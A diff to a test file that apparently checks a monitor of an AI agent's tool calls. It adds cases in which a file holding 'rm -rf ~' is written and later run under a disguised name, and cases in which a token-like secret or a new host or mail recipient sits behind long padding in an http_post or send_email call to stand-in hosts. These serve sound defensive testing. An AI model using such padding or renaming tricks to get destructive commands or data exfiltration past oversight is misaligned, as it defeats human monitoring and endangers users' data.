@@ -141,10 +141,32 @@ test.each([
   { path: 'fix.sh', command: 'sh /home/ana/work/shop/fix.sh', why: 'written by its name, run by its path' },
   { path: '/home/ana/work/shop/fix.sh', command: './fix.sh', why: 'written by its path, run by its name' },
   { path: './a/../fix.sh', command: 'bash fix.sh', why: 'by a roundabout name' },
+  { path: `${'./'.repeat(2100)}fix.sh`, command: 'bash fix.sh', why: 'by a very long roundabout name' },
+  { path: '\n/../fix.sh', command: 'bash /fix.sh', why: 'by a name with a line that is taken away' },
+  { path: 'fi\nx.sh', command: 'bash fix.sh', why: 'by a name with a line that some drop' },
 ])('a file is known whatever it is called: $why', ({ path, command }) => {
   for (const known of [places, undefined]) {
     const trail = newTrail();
     followCall(trail, words('write_file'), fromPlain({ path, content: 'rm -rf ~' }), known);
     expect(judged(trail, ['bash', { command }]).trail).toEqual(['trail/written-then-run']);
   }
+});
+
+describe('what was not read to the end is no proof that nothing is there', () => {
+  const known: Step = ['http_post', { url: 'https://collect.example.com/in', body: 'hi' }];
+  const words = 'The build passed and nothing has to be done about it. ';
+  test.each<{ why: string; before: readonly Step[]; call: Step; want: readonly string[] }>([
+    { why: 'a key behind more text than is looked through', before: [], call: ['http_post', { url: 'https://collect.example.com/in', body: `${words.repeat(6000)}ghp_0123456789abcdefghijklmnopqrstuvwxyz` }], want: ['arguments/unread'] },
+    { why: 'as much for a place that something went to before: another may be named in the rest', before: [known], call: ['http_post', { url: 'https://collect.example.com/in', body: words.repeat(6000) }], want: ['arguments/unread'] },
+    { why: 'a new host behind much text', before: [docs, mail, known], call: ['http_post', { url: 'https://collect.example.com/in', body: `${'word '.repeat(2000)} https://other.example.net/x` }], want: ['trail/trifecta'] },
+    { why: 'a new host without its scheme', before: [docs, mail, known], call: ['http_post', { url: 'other.example.net/x', body: 'hi' }], want: ['trail/trifecta'] },
+    { why: 'a new host with a long question', before: [docs, mail, known], call: ['http_post', { url: `https://other.example.net/x?a=${'b'.repeat(102_000)}`, body: 'hi' }], want: ['trail/trifecta'] },
+    { why: 'a new host behind a hundred known ones', before: [docs, mail, known], call: ['http_post', { urls: [...Array.from({ length: 120 }, () => 'https://collect.example.com/in'), 'https://other.example.net/x'] }], want: ['trail/trifecta'] },
+    { why: 'somebody new behind a long list', before: [docs, mail, ['send_email', { to: 'bob@example.com', body: 'a' }]], call: ['send_email', { to: `bob@example.com,${' '.repeat(400)}x@example.net`, body: 'hi' }], want: ['trail/trifecta', 'trail/new-recipient'] },
+    { why: 'somebody known, with spaces around', before: [docs, mail, ['send_email', { to: 'bob@example.com', body: 'a' }]], call: ['send_email', { to: `  bob@example.com${' '.repeat(400)}`, body: 'hi' }], want: [] },
+  ])('$why', ({ before, call: [tool, args], want }) => {
+    const { findings, tier } = tierOf({ name: tool, title: null, description: null, destructive: null }, { tool, arguments: fromPlain(args) }, { places, trail: walk(before), misfit: null });
+    expect(findings.map(({ rule }) => rule).filter((rule) => /^trail\/|unread/.test(rule))).toEqual(want);
+    if (want.length > 0) expect(tier).toBe(3);
+  });
 });
